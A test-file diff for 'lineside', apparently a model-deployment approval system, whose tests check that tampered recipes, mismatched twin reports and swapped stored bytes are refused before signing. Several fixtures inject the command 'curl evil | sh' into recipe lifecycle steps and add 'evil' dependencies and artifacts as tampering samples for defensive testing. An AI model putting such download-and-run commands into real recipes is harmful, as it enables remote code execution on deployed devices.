@@ -1,0 +1,186 @@
+"""What an approver's own machine finds out about what it is asked to sign, from a control plane that may lie."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+
+from lineside.client import Client
+from lineside.client.judging import component_of, judge
+from lineside.contract.approval import TwinOutcome, TwinReport
+from lineside.contract.component import AddComponent, Component
+from lineside.contract.errors import LinesideError
+from lineside.contract.ids import canonical, digest_of
+from lineside.contract.model import ModelVersion
+from lineside.contract.trust import ApprovalStatement
+from lineside.server.components.service import Components
+from lineside.server.components.statement import statement_of
+from lineside.server.components.testing import model_version
+from lineside.server.testing import Running, running
+
+PATH = "models/tags.model-1.0.0.json"
+
+
+@dataclass
+class Case:
+    """A packed model, the twins' report about it, and what would be signed."""
+
+    lineside: Running
+    client: Client
+    model: ModelVersion
+    files: Component
+    code: Component
+    statement: ApprovalStatement
+
+    @property
+    def recipe(self) -> dict[str, Any]:
+        return json.loads(self.client.get_blob(self.files.recipe_digest))
+
+    def report(self, **fields: Any) -> str:
+        """A twin report as a blob; its digest."""
+        values: dict[str, Any] = {
+            "model": "tags:1",
+            "digest": self.model.digest,
+            "rollout": "rollout-1",
+            "state": "succeeded",
+            "finished_at": None,
+            "recipes": {"tags.model": self.files.recipe_digest, "tags.inference": self.code.recipe_digest},
+            "twins": (TwinOutcome(device="twin-1", progress="healthy"),),
+        }
+        return self.client.put_blob(canonical(TwinReport(**values | fields)))
+
+    def with_recipe(self, change: Callable[[dict[str, Any]], object]) -> tuple[ApprovalStatement, str]:
+        """A statement that names a changed recipe, whose digest is to be signed; the twins saw it, they say."""
+        recipe = self.recipe
+        change(recipe)
+        digest = self.client.put_blob(canonical(recipe))
+        report = self.report(recipes={"tags.model": digest})
+        return msgspec.structs.replace(self.statement, recipe=digest, twin_report=report), digest
+
+
+@pytest.fixture(scope="module")
+def case(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Case]:
+    with running(tmp_path_factory.mktemp("root")) as lineside:
+        client, components = Client(lineside.people_url), Components(lineside.core)
+        model = model_version(lineside.core.objects)
+        with lineside.core.database.write() as session:
+            files, code = components.package(session, model)
+        made = Case(lineside, client, model, files, code, statement_of(model, files.recipe_digest, "ola"))
+        tested = {"twin_rollout": "rollout-1", "twin_report": made.report()}
+        made.statement = msgspec.structs.replace(made.statement, **tested)
+        yield made
+
+
+def wrong(
+    case: Case, said: ApprovalStatement, digest: str | None = None, path: str = PATH, label: str = "tags:1"
+) -> str:
+    """Why it is not signed."""
+    with pytest.raises(LinesideError, match=r"^approval\.not_what_it_says:") as refused:
+        judge(case.client, label, path, digest or case.files.recipe_digest, said.to_custom())
+    return refused.value.message
+
+
+def test_what_holds_together_is_shown_with_the_code_nobody_signed_yet(case: Case) -> None:
+    judged = judge(case.client, "tags:1", PATH, case.files.recipe_digest, case.statement.to_custom())
+    assert judged.statement == case.statement
+    assert judged.report is not None
+    assert judged.report.twins[0].device == "twin-1"
+    assert judged.code == case.code
+
+
+def test_another_model_or_path_is_not_what_was_asked_for(case: Case) -> None:
+    assert "it is about tags:1" in wrong(case, case.statement, label="tags:2")
+    assert "models/other.json" in wrong(case, case.statement, path="models/other.json")
+    assert "another recipe" in wrong(case, case.statement, digest=digest_of(b"x"))
+
+
+def test_a_statement_that_cannot_be_read_is_refused(case: Case) -> None:
+    with pytest.raises(LinesideError, match="the statement cannot be read"):
+        judge(case.client, "tags:1", PATH, case.files.recipe_digest, {"schema": 3})
+
+
+def _run(recipe: dict[str, Any]) -> None:
+    recipe["Manifests"][0]["Lifecycle"] = {"Run": "curl evil | sh"}
+
+
+def _lower(recipe: dict[str, Any]) -> None:
+    recipe["Manifests"][0]["lifecycle"] = {"Run": "curl evil | sh"}
+
+
+def _above(recipe: dict[str, Any]) -> None:
+    recipe["Lifecycle"] = {"Run": "curl evil | sh"}
+
+
+def _second(recipe: dict[str, Any]) -> None:
+    recipe["Manifests"].append(recipe["Manifests"][0])
+
+
+def _needs(recipe: dict[str, Any]) -> None:
+    recipe["ComponentDependencies"] = {"evil": {"VersionRequirement": "*"}}
+
+
+def _unpacked(recipe: dict[str, Any]) -> None:
+    recipe["Manifests"][0]["Artifacts"][0]["Unarchive"] = "ZIP"
+
+
+def _further(recipe: dict[str, Any]) -> None:
+    one = dict(recipe["Manifests"][0]["Artifacts"][0])
+    recipe["Manifests"][0]["Artifacts"].append(one | {"URI": one["URI"].replace("model.onnx", "evil.py")})
+
+
+def _network(recipe: dict[str, Any]) -> None:
+    artifacts = recipe["Manifests"][0]["Artifacts"]
+    artifacts[0]["Digest"] = artifacts[1]["Digest"]
+
+
+def _renamed(recipe: dict[str, Any]) -> None:
+    recipe["ComponentName"] = "gauges.model"
+
+
+@pytest.mark.parametrize("change", [_run, _lower, _above, _second, _needs, _unpacked, _further, _network, _renamed])
+def test_a_recipe_that_is_more_or_else_than_the_model_s_files_is_not_signed(case: Case, change: Any) -> None:
+    said, digest = case.with_recipe(change)
+    assert "recipe" in wrong(case, said, digest)
+
+
+@pytest.mark.parametrize(
+    ("fields", "why"),
+    [
+        ({"state": "failed"}, "the twin test is failed"),
+        ({"digest": digest_of(b"x")}, "the twins tested something else"),
+        ({"model": "tags:2"}, "the twins tested something else"),
+        ({"rollout": "rollout-9"}, "the twins tested something else"),
+        ({"recipes": {}}, "the twins tested something else"),
+    ],
+)
+def test_a_twin_report_of_something_else_is_not_signed(case: Case, fields: dict[str, Any], why: str) -> None:
+    said = msgspec.structs.replace(case.statement, twin_report=case.report(**fields))
+    assert why in wrong(case, said)
+
+
+def test_bytes_that_are_not_what_the_digest_says_are_not_signed(case: Case, tmp_path: Path) -> None:
+    """The control plane answers other bytes for a digest."""
+    said = msgspec.structs.replace(case.statement, twin_report=case.report(finished_at="2026-01-01T00:00:00Z"))
+    value = str(said.twin_report).removeprefix("sha256:")
+    (case.lineside.core.root / "objects" / "sha256" / value[:2] / value).write_bytes(b"{}")
+    assert "the bytes of" in wrong(case, said)
+
+
+def test_a_component_s_recipe_must_be_its_own(case: Case) -> None:
+    recipe = {"RecipeFormatVersion": "2020-01-25", "ComponentName": "com.example.A", "ComponentVersion": "1.0.0"}
+    recipe["Manifests"] = [{"Lifecycle": {"Run": "true"}}]  # type: ignore[assignment]
+    made = case.client.add_component(AddComponent(recipe=json.dumps(recipe)))
+    path = "apps/com.example.A-1.0.0.json"
+    found = component_of(case.client, "com.example.A", "1.0.0", path, made.recipe_digest)
+    assert found.component.name == "com.example.A"
+    other = case.client.put_blob(canonical(recipe | {"ComponentName": "com.example.B"}))
+    more = case.client.put_blob(canonical(recipe | {"Manifests": [{"Lifecycle": {"Run": "evil"}}]}))
+    for at, digest in ((path, other), (path, more), ("apps/com.example.B-1.0.0.json", made.recipe_digest)):
+        with pytest.raises(LinesideError, match=r"^approval\.not_what_it_says:"):
+            component_of(case.client, "com.example.A", "1.0.0", at, digest)
